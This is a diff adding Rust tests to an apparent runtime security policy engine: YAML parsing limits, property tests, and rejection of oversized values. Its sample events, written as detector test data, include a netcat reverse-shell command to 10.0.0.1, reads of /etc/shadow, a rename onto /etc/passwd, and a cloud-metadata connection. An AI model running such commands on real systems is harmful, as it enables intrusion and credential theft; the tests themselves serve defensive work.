@@ -773,3 +773,125 @@ spec:
         "a kill is stronger than the block"
     );
 }
+
+#[test]
+fn deep_flow_nesting_is_refused_before_the_parser_pays_for_it() {
+    // 64 KiB of `{a: ` cost libyaml ~2 s (quadratic); refused at once, located.
+    let text = format!("apiVersion: lancet.dev/v1alpha1\nkind: Policy\nspec: {}", "{a: ".repeat(16_000));
+    let t = std::time::Instant::now();
+    let errs = parse_policies(&text, "deep.yaml").unwrap_err();
+    assert!(t.elapsed() < std::time::Duration::from_millis(500), "{:?}", t.elapsed());
+    assert_eq!(errs.len(), 1);
+    assert_eq!((errs[0].line, errs[0].column), (3, 7 + 4 * 128));
+    assert!(errs[0].to_string().starts_with("deep.yaml:3:519: nested more than 128 levels deep"), "{}", errs[0]);
+}
+
+// ---------- property tests: policy files are outside data ----------
+
+mod props {
+    use super::*;
+    use crate::prop_util::{apply, edits, yamlish};
+    use proptest::prelude::*;
+
+    fn check_errors(errors: &[PolicyError], file: &str, text: &str) -> Result<(), TestCaseError> {
+        prop_assert!(!errors.is_empty());
+        let lines = text.lines().count() + 1;
+        for e in errors {
+            prop_assert_eq!(&e.file, file);
+            let shown = e.to_string();
+            prop_assert!(shown.starts_with(&format!("{file}:")), "{}", shown);
+            // Located errors point into the text.
+            prop_assert!(e.line <= lines, "line {} of {}: {}", e.line, lines, shown);
+            if e.line > 0 {
+                prop_assert!(e.column >= 1, "{}", shown);
+                prop_assert!(shown.starts_with(&format!("{file}:{}:{}: ", e.line, e.column)), "{}", shown);
+            }
+        }
+        Ok(())
+    }
+
+    fn sample_events() -> Vec<Event> {
+        vec![
+            exec("/bin/sh", &["sh", "-c", "nc -e /bin/sh 10.0.0.1 4444"]),
+            file(FileOp::Open, "/etc/shadow"),
+            file(FileOp::Create, "/usr/bin/x"),
+            rename("/tmp/a", "/etc/passwd"),
+            connect("169.254.169.254", 80),
+            connect("10.0.0.1", 3333),
+            net(NetOp::Listen, "0.0.0.0", 0, 4444),
+        ]
+    }
+
+    /// Parsed policies compile (parse_policies validates what compiling
+    /// needs), evaluate without panicking, and write back to YAML that
+    /// parses to the same policies.
+    fn check_accepted(policies: Vec<Policy>) -> Result<(), TestCaseError> {
+        let text: String = policies.iter().map(|p| format!("---\n{}", serde_norway::to_string(p).unwrap())).collect();
+        let again = parse_policies(&text, "again.yaml").unwrap_or_else(|e| panic!("{e:?}\n{text}"));
+        prop_assert_eq!(&again, &policies);
+        let set = PolicySet::new(policies, false);
+        prop_assert!(set.is_ok(), "parsed but not compiled: {:?}", set.err());
+        let set = set.unwrap();
+        let c = container();
+        let mut out = Vec::new();
+        for ev in sample_events() {
+            for deviates in [false, true] {
+                out.clear();
+                set.evaluate(&ev, Some(&c), deviates, &mut out);
+                set.evaluate(&ev, None, deviates, &mut out);
+            }
+        }
+        Ok(())
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(128))]
+
+        /// The built-in rules changed at random: policies that compile, or
+        /// errors that say where.
+        #[test]
+        fn mutated_default_rules_are_policies_or_located_errors(e in edits(6)) {
+            let text = apply(DEFAULT_RULES_YAML, &e);
+            match parse_policies(&text, "m.yaml") {
+                Ok(p) => check_accepted(p)?,
+                Err(errors) => check_errors(&errors, "m.yaml", &text)?,
+            }
+        }
+
+        #[test]
+        fn arbitrary_text_is_policies_or_located_errors(text in yamlish()) {
+            match parse_policies(&text, "x.yaml") {
+                Ok(p) => check_accepted(p)?,
+                Err(errors) => check_errors(&errors, "x.yaml", &text)?,
+            }
+        }
+    }
+
+    #[test]
+    fn the_default_rules_round_trip() {
+        let p = parse_policies(DEFAULT_RULES_YAML, DEFAULT_RULES_FILE).unwrap();
+        assert!(!p.is_empty());
+        check_accepted(p).unwrap();
+    }
+
+    #[test]
+    fn huge_values_and_aliases_are_errors() {
+        let esc = |within: &str| format!("      severity: high\n      escalate: {{after: 3, within: {within}, to: kill-process}}\n");
+        // An escalation that reads, to change.
+        let good = DEFAULT_RULES_YAML.replacen("      severity: high\n", &esc("1m"), 1);
+        assert_eq!(parse_policies(&good, "g.yaml").unwrap()[0].spec.rules.iter().filter(|r| r.escalate.is_some()).count(), 1);
+        for text in [
+            good.replacen("after: 3", "after: 99999999999999999999999", 1),
+            good.replacen("after: 3", "after: -3", 1),
+            good.replacen("within: 1m", "within: 99999999999999999999999999s", 1),
+            good.replacen("within: 1m", "within: 1e400", 1),
+            DEFAULT_RULES_YAML.replacen("ports: [3333,", "ports: [99999999999999,", 1),
+            DEFAULT_RULES_YAML.replacen("ports: [3333,", "ports: [-1,", 1),
+            DEFAULT_RULES_YAML.replacen("severity: medium", "severity: &s medium\n      tags: *s", 1),
+        ] {
+            assert_ne!(text, DEFAULT_RULES_YAML);
+            let errors = parse_policies(&text, "h.yaml").unwrap_err();
+            assert!(errors.iter().all(|e| e.line > 0 && e.column > 0), "{errors:?}");
+        }
+    }
+}
